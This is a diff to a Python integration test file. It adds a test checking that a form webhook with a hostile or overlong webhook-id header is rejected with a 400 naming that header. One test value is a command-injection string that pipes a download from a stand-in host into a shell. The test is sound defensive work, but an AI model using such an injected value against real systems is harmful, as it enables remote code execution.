@@ -52,3 +52,18 @@ async def test_every_api_answer_is_no_store(client, path: str, headers: dict[str
     r = await client.get(path, headers=headers)
     assert r.status_code == status, (path, r.status_code, r.text[:300])
     assert "no-store" in r.headers.get("cache-control", ""), (path, dict(r.headers))
+
+
+async def test_a_form_post_with_a_hostile_webhook_id_is_400_naming_the_header(client) -> None:  # type: ignore[no-untyped-def]
+    import json
+    import time
+
+    from adapters.forms.standard_webhooks import sign
+    from tests.integration.harness import FORM_SECRET
+
+    body = json.dumps({"email": "ana@example.com", "first_name": "Ana"}).encode()
+    for msg_id in ("msg;curl evil.example|sh", "m" * 129):
+        headers = {"content-type": "application/json", **sign(FORM_SECRET, msg_id, int(time.time()), body)}
+        r = await client.post("/webhooks/forms/website", content=body, headers=headers)
+        assert r.status_code == 400, (msg_id, r.status_code, r.text)
+        assert r.json()["field"] == "webhook-id"
